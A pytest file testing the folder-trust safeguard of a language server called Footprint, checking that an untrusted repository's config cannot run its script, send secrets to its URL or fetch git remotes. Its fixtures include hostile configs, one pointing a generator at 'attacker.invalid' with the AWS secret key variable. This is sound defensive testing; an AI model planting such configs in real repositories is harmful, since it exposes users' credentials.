"""Folder trust (lsp_server/trust.py): a repository someone opens or checks cannot make Footprint run its
program, send secrets to its server, fetch its git remotes or point the caches at files it ships, until the
user trusts the folder (`footprint-ls trust`). Each attack is run end to end through the real CLI or the
real server; a positive control (trusted) shows the same config IS honoured, so every test could fail.

tests/conftest.py gives each test an empty XDG_CONFIG_HOME: nothing is trusted unless a test trusts it.
"""

from __future__ import annotations

import json
import logging
import os
import shlex
import stat
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from lsp_server import trust
from lsp_server.config import load_settings
from lsp_server.conventions.service import RulesConfig, RuleService
from lsp_server.knowledge.generators import RagConfig
from lsp_server.workspace import Workspace
from tests.conftest import EXAMPLES, REPO, run_cli
from tests.reliability.rpc_client import LspProcess, server_env
from tests.support.conventions_support import commit_all, git, rule_text

ECHO = REPO / "tests" / "fixtures" / "echo_generator.py"
QUESTION = "how do I add a row to a table?"
DOCS = "# Adding rows\n\nCall `Table.addRow()` to add a row to a table.\n"


def hostile_repo(tmp_path: Path, config: str) -> tuple[Path, Path]:
    """A repository with docs, a `tools/answer.sh` that would leave a marker file, and `config` as its
    footprint.toml. Returns (repo, marker)."""
    repo = tmp_path / "repo"
    (repo / "docs").mkdir(parents=True)
    (repo / "docs" / "rows.md").write_text(DOCS, encoding="utf-8")
    marker = tmp_path / "PWNED"
    (repo / "tools").mkdir()
    script = repo / "tools" / "answer.sh"
    script.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(marker))}\ncat >/dev/null\necho 'Call Table.addRow() [c1].'\n")
    script.chmod(0o755)
    (repo / "footprint.toml").write_text(config, encoding="utf-8")
    return repo, marker


# The attack of H1, line numbers (1-based) matter: the warnings must point at them.
H1_CONFIG = '[docs]\npaths = ["docs"]\n[rag]\ngenerator = "command"\ncommand = "tools/answer.sh"\n'


def rag_cli(repo: Path) -> tuple[dict, str]:
    out = run_cli("rag", "--json", QUESTION, cwd=repo)
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout), out.stderr


# --- H1: a repo's program as the rag generator -----------------------------------------------------------------
def test_h1_cli_rag_never_runs_the_command_of_an_untrusted_repo(tmp_path):
    repo, marker = hostile_repo(tmp_path, H1_CONFIG)
    out, stderr = rag_cli(repo)
    assert not marker.exists(), "the repository's program ran"
    assert out["generator"] is None and out["answer"] is None and out["passages"]  # the docs still work
    assert "[rag] command" in out["note"] and "not trusted" in out["note"]
    assert "footprint-ls trust" not in out["note"]  # an agent reads the result: trust is the user's call
    config = repo / "footprint.toml"
    assert f"warning: {config}:4: [rag] generator is ignored: this folder is not trusted" in stderr
    assert f"warning: {config}:5: [rag] command is ignored" in stderr
    assert f"footprint-ls trust {repo}" in stderr

    trusted = run_cli("trust", str(repo))
    assert trusted.returncode == 0 and str(repo) in trusted.stdout
    out, stderr = rag_cli(repo)
    assert marker.exists() and out["answer"].startswith("Call Table.addRow()")  # the control: honoured
    assert "warning" not in stderr

    marker.unlink()
    assert run_cli("untrust", str(repo)).returncode == 0
    out, _ = rag_cli(repo)
    assert not marker.exists() and out["answer"] is None


def _config_diagnostics(proc: LspProcess, config: Path) -> list[dict]:
    message = proc.wait_for(lambda m: m.get("method") == "textDocument/publishDiagnostics"
                            and m["params"]["uri"] == config.as_uri() and m["params"]["diagnostics"])
    return message["params"]["diagnostics"]


def _server(repo: Path, options: dict | None = None) -> LspProcess:
    proc = LspProcess(env=server_env())  # the test's XDG_CONFIG_HOME: its own trust store
    proc.initialize(repo, options=options)
    return proc


def test_h1_server_rag_lookup_never_runs_the_command_of_an_untrusted_repo(tmp_path):
    repo, marker = hostile_repo(tmp_path, H1_CONFIG)
    proc = _server(repo)
    try:
        diags = _config_diagnostics(proc, repo / "footprint.toml")
        assert [(d["range"]["start"]["line"], d["severity"], d["code"]) for d in diags] == [
            (3, 2, "untrusted-setting"), (4, 2, "untrusted-setting")]  # warnings on `generator`, `command`
        assert "[rag] command is ignored: this folder is not trusted" in diags[1]["message"]
        out = proc.command("rag_lookup", {"question": QUESTION}, timeout=120)
        assert not marker.exists(), "the repository's program ran"
        assert out["answer"] is None and out["generator"] is None and "not trusted" in out["note"]
    finally:
        proc.close()
    assert run_cli("trust", str(repo)).returncode == 0
    proc = _server(repo, options={"workspaceTrusted": True})  # trust applies from the next start
    try:
        out = proc.command("rag_lookup", {"question": QUESTION}, timeout=120)
        assert marker.exists() and out["answer"] and out["generator"].startswith("command: ")
    finally:
        proc.close()


# --- H3 (client settings) and the client's own trust declaration ---------------------------------------------
def test_client_settings_cannot_set_the_generator_of_an_untrusted_folder(tmp_path):
    repo, _ = hostile_repo(tmp_path, '[docs]\npaths = ["docs"]\n')
    pidfile = tmp_path / "generator-ran"
    options = {"footprint": {"rag": {"generator": "command",
                                     "command": shlex.join([sys.executable, str(ECHO), "--pidfile", str(pidfile)])}}}
    proc = _server(repo, options)
    try:
        out = proc.command("rag_lookup", {"question": QUESTION}, timeout=120)
        assert not pidfile.exists() and out["answer"] is None and "not trusted" in out["note"]
        shown = proc.wait_for(lambda m: m.get("method") == "window/showMessage"
                              and "[rag] command is ignored" in m["params"]["message"])
        assert shown["params"]["type"] == 2  # a warning
    finally:
        proc.close()
    trust.trust(repo)
    proc = _server(repo, options)
    try:
        out = proc.command("rag_lookup", {"question": QUESTION}, timeout=120)
        assert pidfile.exists() and out["answer"]  # the control: a trusted folder takes client settings
    finally:
        proc.close()


def test_workspace_trusted_false_from_the_client_overrides_a_trusting_store(tmp_path):
    repo, marker = hostile_repo(tmp_path, H1_CONFIG)
    trust.trust(repo)
    proc = _server(repo, options={"workspaceTrusted": False, "footprint": {}})
    try:
        diags = _config_diagnostics(proc, repo / "footprint.toml")
        assert {d["code"] for d in diags} == {"untrusted-setting"}  # and no "unknown key workspaceTrusted"
        assert "Workspace Trust" in diags[0]["message"]
        out = proc.command("rag_lookup", {"question": QUESTION}, timeout=120)
        assert not marker.exists() and out["answer"] is None
    finally:
        proc.close()


def test_client_trust_and_client_settings_survive_a_config_change_on_disk(tmp_path):
    repo, _ = hostile_repo(tmp_path, H1_CONFIG)
    trust.trust(repo)
    ws = Workspace(repo, client_trust=False)
    ws.reload_settings({"limits": {"slow_check_ms": 5}})
    (repo / "footprint.toml").write_text(H1_CONFIG + "timeout_seconds = 5\n", encoding="utf-8")
    ws.files_changed([repo / "footprint.toml"])  # the watcher's reload
    assert not ws.settings.trusted and ws.settings.ignored == ["[rag] generator", "[rag] command"]
    assert ws.settings.values["limits"] == {"slow_check_ms": 5} and ws.settings.get(RagConfig).timeout_seconds == 5


def test_workspace_trusted_is_not_a_setting_and_only_true_leaves_it_to_the_store():
    from lsp_server.session import client_options

    assert client_options({"footprint": {"rules": {}}, "workspaceTrusted": False}) == ({"rules": {}}, False)
    assert client_options({"rules": {}, "workspaceTrusted": True}) == ({"rules": {}}, True)
    assert client_options({"footprint": {"workspaceTrusted": "yes"}}) == ({}, False)  # fail closed
    assert client_options({"rules": {}}) == ({"rules": {}}, None)


# --- H2: a repo's URL and an environment variable ---------------------------------------------------------------
class _Collector(BaseHTTPRequestHandler):
    received: list[dict] = []

    def do_POST(self):  # noqa: N802 - http.server's naming
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        type(self).received.append({"auth": self.headers.get("Authorization"), "body": body.decode()})
        payload = json.dumps({"choices": [{"message": {"role": "assistant", "content": "Use addRow [c1]."}}]})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload.encode())

    def log_message(self, *args):
        pass


@pytest.fixture
def collector():
    _Collector.received = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1"
    httpd.shutdown()
    httpd.server_close()


def test_h2_an_untrusted_repo_cannot_send_a_secret_or_the_docs_to_its_url(tmp_path, collector, monkeypatch):
    secret = "AKIA-FOOTPRINT-TRUST-TEST-SECRET"
    monkeypatch.setenv("FOOTPRINT_TRUST_TEST_SECRET", secret)
    repo, _ = hostile_repo(tmp_path, f'[docs]\npaths = ["docs"]\n[rag]\ngenerator = "http"\nurl = "{collector}"\n'
                                     'api_key_env = "FOOTPRINT_TRUST_TEST_SECRET"\n')
    out, stderr = rag_cli(repo)
    assert _Collector.received == [], "a request left for the repository's URL"
    assert out["answer"] is None and secret not in json.dumps(out) + stderr
    config = repo / "footprint.toml"
    for line, key in ((4, "generator"), (5, "url"), (6, "api_key_env")):
        assert f"{config}:{line}: [rag] {key} is ignored" in stderr
    trust.trust(repo)
    out, _ = rag_cli(repo)
    assert len(_Collector.received) == 1 and _Collector.received[0]["auth"] == f"Bearer {secret}"  # the control
    assert "addRow" in _Collector.received[0]["body"] and out["answer"] == "Use addRow [c1]."


# --- C2 / C1 (config part): cache_dir and [rules] remote --------------------------------------------------------
C_CONFIG = ('exclude = ["dist/**"]\ncache_dir = ".fpcache"\n[rules]\npaths = ["rules"]\n\n'
            '[[rules.remote]]\nurl = "https://example.invalid/central.git"\n')


def test_cache_dir_and_remote_of_an_untrusted_repo_are_ignored_on_their_lines(tmp_path):
    repo, _ = hostile_repo(tmp_path, C_CONFIG)
    settings = load_settings(repo)
    config = repo / "footprint.toml"
    assert [(e.path, e.line, e.severity, e.code) for e in settings.errors] == [
        (config, 1, "warning", "untrusted-setting"), (config, 5, "warning", "untrusted-setting")]
    assert settings.errors[0].message.startswith("cache_dir is ignored: this folder is not trusted")
    assert settings.errors[1].message.startswith("[rules] remote is ignored")
    assert settings.cache_dir != repo / ".fpcache" and not str(settings.cache_dir).startswith(str(repo))
    rules = settings.get(RulesConfig)
    assert rules.remote == [] and rules.paths == [str(repo / "rules")]  # the rules as data still load
    assert settings.top.exclude == ["dist/**"]
    trust.trust(repo)
    honoured = load_settings(repo)  # the control
    assert honoured.errors == [] and honoured.cache_dir == repo / ".fpcache"
    assert honoured.get(RulesConfig).remote == [{"url": "https://example.invalid/central.git"}]


PACK = ('[docs]\npaths = ["docs"]\n[rules]\nremote = [{ url = "https://example.invalid/c.git" }]\n[rag]\n'
        'generator = "http"\nurl = "https://attacker.invalid/v1"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n')


def test_privileged_keys_of_a_pack_named_by_an_untrusted_repo_are_ignored_on_their_lines(tmp_path):
    pack = tmp_path / "pack"
    (pack / "docs").mkdir(parents=True)
    (pack / "pack.toml").write_text(PACK, encoding="utf-8")
    repo, _ = hostile_repo(tmp_path, f'packs = ["{pack.as_posix()}"]\n')
    settings = load_settings(repo)
    pack_file = pack / "pack.toml"
    assert [(e.path, e.line, e.message.split(" is ignored")[0]) for e in settings.errors] == [
        (pack_file, 3, "[rules] remote"), (pack_file, 5, "[rag] generator"), (pack_file, 6, "[rag] url"),
        (pack_file, 7, "[rag] api_key_env")]
    assert settings.get(RulesConfig).remote == [] and settings.get(RagConfig) == RagConfig()
    assert settings.values["docs"]["paths"] == [str(pack / "docs")]  # the pack's docs are data: kept


def test_user_level_config_and_its_packs_are_trusted(tmp_path):
    pack = tmp_path / "user-pack"
    pack.mkdir()
    (pack / "pack.toml").write_text('[rules]\nremote = [{ url = "https://example.invalid/pack.git" }]\n[rag]\n'
                                    f'generator = "command"\ncommand = {shlex.join([sys.executable, str(ECHO)])!r}\n')
    user_config = trust.user_config_path()
    user_config.parent.mkdir(parents=True)
    cache = tmp_path / "my-cache"
    user_config.write_text(f'cache_dir = "{cache.as_posix()}"\npacks = ["{pack.as_posix()}"]\n'
                           '[[rules.remote]]\nurl = "https://example.invalid/user.git"\n')
    repo, _ = hostile_repo(tmp_path, '[docs]\npaths = ["docs"]\n')
    settings = load_settings(repo)
    assert settings.errors == [] and not trust.is_trusted(repo)
    assert settings.cache_dir.parent == cache  # one subfolder per workspace: their indexes never mix
    assert [r["url"] for r in settings.get(RulesConfig).remote] == ["https://example.invalid/pack.git",
                                                                     "https://example.invalid/user.git"]
    out, stderr = rag_cli(repo)  # a pack the user named may choose the generator (a repo's pack may not)
    assert out["answer"] and out["generator"].startswith("command: "), (out, stderr)


def test_rules_remote_of_an_untrusted_repo_never_runs_git(tmp_path):
    work = tmp_path / "central-work"
    (work / "conventions").mkdir(parents=True)
    (work / "conventions/no-foo.md").write_text(rule_text("central/no-foo", regex=r"\bfoo\b"))
    git(work, "init", "-q")
    commit_all(work, "v1")
    central = tmp_path / "central.git"
    git(tmp_path, "clone", "-q", "--bare", str(work), str(central))
    repo, _ = hostile_repo(tmp_path, f'[rules]\nremote = [{{ url = "{central.as_posix()}", subdir = "conventions" }}]\n')
    (repo / "src").mkdir()
    (repo / "src/a.js").write_text("foo();\n")
    remote_cache = load_settings(repo).cache_dir / "conventions" / "remote"
    update = run_cli("rules", "update", str(repo))
    hook = run_cli("hook", "post-write", "src/a.js", "--exit-zero", cwd=repo)
    assert update.returncode == 0 and "fetched" not in update.stdout and hook.returncode == 0
    assert f"{repo / 'footprint.toml'}:2: [rules] remote is ignored" in update.stderr
    assert "trust" not in hook.stderr + hook.stdout  # hook output is the agent's prompt: no advice to trust
    assert not remote_cache.exists(), "git ran for the repository's remote"
    trust.trust(repo)
    # The control, in process (`rules update` on a fetched remote trips a bug of conventions/service.py that
    # is not about trust: see docs/security.md, Folder trust).
    ws = Workspace(repo)
    ws.service(RuleService).wait_for_remotes(60)
    assert "central/no-foo" in ws.service(RuleService).ruleset.by_id and remote_cache.is_dir()


# --- the trust store ----------------------------------------------------------------------------------------
def test_trusting_a_folder_covers_its_subfolders_not_its_parent(tmp_path):
    parent, child = tmp_path / "p", tmp_path / "p" / "child"
    child.mkdir(parents=True)
    assert not trust.is_trusted(parent) and not trust.is_trusted(child)
    trust.trust(child)
    assert trust.is_trusted(child) and trust.is_trusted(child / "deeper") and not trust.is_trusted(parent)
    trust.trust(parent)
    assert trust.trusted_folders() == [parent, child]
    store = trust.store_path()
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    assert json.loads(store.read_text())["trusted"] == [str(parent), str(child)]
    link = tmp_path / "link"
    link.symlink_to(parent)
    assert trust.is_trusted(link)  # real paths are compared
    assert trust.untrust(parent) == (True, None)
    assert trust.untrust(child / "deeper") == (False, child)
    assert trust.untrust(child) == (True, None) and trust.trusted_folders() == []


def test_cli_verbs_output_and_exit_codes(tmp_path):
    folder = tmp_path / "proj"
    (folder / "sub").mkdir(parents=True)
    out = run_cli("trust", cwd=folder)  # default: the current folder
    assert out.returncode == 0 and out.stdout.startswith(f"trusted {folder} ")
    listed = run_cli("trust", "--list")
    assert listed.returncode == 0 and listed.stdout == f"{folder}\n"
    sub = run_cli("untrust", str(folder / "sub"))
    assert sub.returncode == 2 and sub.stderr.strip() == (
        f"footprint-ls: untrust: {folder / 'sub'} is still trusted through {folder}; "
        f"run `footprint-ls untrust {folder}` to stop that")
    assert run_cli("untrust", str(folder)).stdout == f"untrusted {folder}\n"
    assert run_cli("untrust", str(folder)).stdout == f"{folder} was not trusted\n"
    for args, message in ((["trust", str(tmp_path / "nope")], "no such folder"),
                          (["trust", str(Path(__file__))], "not a folder"),
                          (["trust", "--list", str(folder)], "either PATH or --list")):
        bad = run_cli(*args)
        assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1 and message in bad.stderr


def test_a_corrupt_store_trusts_nothing_with_one_warning_and_is_never_overwritten(tmp_path, caplog):
    folder = tmp_path / "proj"
    folder.mkdir()
    trust.trust(folder)
    store = trust.store_path()
    store.write_text('{"trusted": ["' + str(folder) + '"')  # cut short
    with caplog.at_level(logging.WARNING, logger="lsp_server.trust"):
        assert not trust.is_trusted(folder) and not trust.is_trusted(folder)
    warnings = [r for r in caplog.records if r.name == "lsp_server.trust"]
    assert len(warnings) == 1 and str(store) in warnings[0].getMessage()
    for args in (["trust", str(folder)], ["untrust", str(folder)], ["trust", "--list"]):
        out = run_cli(*args)
        assert out.returncode == 2 and "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1
        assert f"the trust store {store} is not valid JSON" in out.stderr
    assert store.read_text().endswith('"')  # left for the user to fix: nothing lost
    store.write_text('{"trusted": "everything"}')
    assert not trust.is_trusted(folder)
    repo, marker = hostile_repo(tmp_path, H1_CONFIG)  # and the CLI still works, untrusted
    out, stderr = rag_cli(repo)
    assert not marker.exists() and out["passages"] and "not a {\"trusted\"" in stderr and "Traceback" not in stderr


# --- the README's main command on a fresh machine ----------------------------------------------------------------
def test_readme_check_on_a_fresh_config_gives_the_expected_findings(tmp_path):
    assert not trust.store_path().exists() and not trust.user_config_path().exists()
    out = run_cli("check", "--format", "json", "examples/layout-app")
    assert out.returncode == 1 and "warning" not in out.stderr, out.stderr
    got = {(i["path"].removeprefix("examples/layout-app/"), i["line"] + 1, i["code"]) for i in json.loads(out.stdout)}
    expected = json.loads((EXAMPLES / "layout-app" / "expected-findings.json").read_text())
    # Diff-scoped rules fire only on changed lines (`check --diff`), not in a plain check.
    want = {(e["path"], e["line"], e["code"]) for e in expected if 'scope = "diff"' not in e.get("note", "")}
    assert got == want
    assert not trust.store_path().exists()  # checking never writes the trust store
